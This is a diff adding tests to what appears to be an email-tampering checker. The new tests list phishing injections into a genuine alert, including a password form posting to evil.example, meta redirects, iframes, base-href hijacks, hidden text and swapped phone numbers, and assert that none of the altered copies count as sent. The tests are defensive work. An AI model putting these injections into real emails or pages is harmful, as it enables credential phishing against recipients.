@@ -302,11 +302,55 @@ def test_unsigned_copy_equal_to_our_record() -> None:
     )
 
 
+def put(extra: bytes) -> bytes:
+    return ALERT.replace(b"<p>Hello Kim,</p>", b"<p>Hello Kim,</p>" + extra)
+
+
+SMUGGLED = {
+    "picture": put(b'<img src="https://evil.example/lure.png">'),
+    "picture with words": put(b'<img alt="Call us" src="https://evil.example/lure.png">'),
+    "background": put(b'<p style="background:url(https://evil.example/a.png)">x</p>'),
+    "form": put(b'<form action="https://evil.example/f"><input name="password"></form>'),
+    "two words": put(b"<p>PIN please!</p>"),
+    "host as text": put(b"<p>evil.example</p>"),
+    "one word turned": ALERT.replace(b"We never ask for your password.", b"We now ask for your password."),
+    "promise hidden": ALERT.replace(b"<body>", b"<body><style>p{display:none}</style>"),
+    "links moved": ALERT.replace(b"<html>", b'<html><head><base href="https://evil.example/"></head>'),
+    "redirect": put(b'<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
+    "frame": put(b'<iframe src="https://evil.example/"></iframe>'),
+    "drawing": put(b'<svg><a href="https://evil.example"><text>Sign in</text></a></svg>'),
+    "another form of it": ALERT.replace(b"\r\n--alt--", b"\r\n--alt\r\nContent-Type: text/x-amp-html\r\n\r\n<p>Call evil now</p>\r\n--alt--"),
+    "calendar": ALERT.replace(b"\r\n--alt--", b"\r\n--alt\r\nContent-Type: text/calendar\r\n\r\nBEGIN:VCALENDAR\r\n--alt--"),
+    "inline file": ALERT.replace(b"\r\n--alt--", b"\r\n--alt\r\nContent-Type: image/png\r\nContent-Disposition: inline\r\n\r\nPNG\r\n--alt--"),
+    "name": ALERT.replace(b"Acme Safety", b"Acme Refunds, call 888 555"),
+    "subject": ALERT.replace(b"this autumn", b"this autumn 888 555"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("trick", SMUGGLED)
+def test_an_unsigned_copy_with_anything_put_in_is_never_ours(trick: str) -> None:
+    """With our Message-ID and address, so that only the record could speak for it."""
+    assert check(ALERT, record=RECORD).kind is SENT
+    verdict = check(SMUGGLED[trick], record=RECORD)
+    assert verdict.kind in (ALTERED, NOT_OURS, CANNOT_TELL), codes(verdict)
+
+
+@pytest.mark.parametrize("trick", SMUGGLED)
+def test_a_signed_copy_with_anything_put_in_is_never_ours(trick: str) -> None:
+    signature = sign().removesuffix(ALERT)
+    for record in (None, RECORD):
+        verdict = check(signature + SMUGGLED[trick], record=record) if record else check(signature + SMUGGLED[trick])
+        assert verdict.kind is not SENT, codes(verdict)
+
+
 def test_a_token_in_a_link_is_no_change_but_a_destination_is() -> None:
     tagged = ALERT.replace(b'/safety"', b'/safety/u/8f3a9b2c4d5e6f70?utm=kim"')
     record = ListedRecord(sent(tagged))
     other = tagged.replace(b"8f3a9b2c4d5e6f70", b"0a1b2c3d4e5f6071")
-    assert check(other, record=record).kind is SENT
+    assert check(tagged, record=record).kind is SENT
+    assert check(sign(other), record=record).kind is SENT
+    assert check(other, record=record).kind is NOT_OURS  # without a signature only the very links will do
+    assert check(other, replace(PROFILE, signs_all_mail_since=None), record=record).kind is CANNOT_TELL
     away = tagged.replace(b"?utm=kim", b"?u=https://evil.example/")
     assert check(away, record=record).kind is ALTERED
 
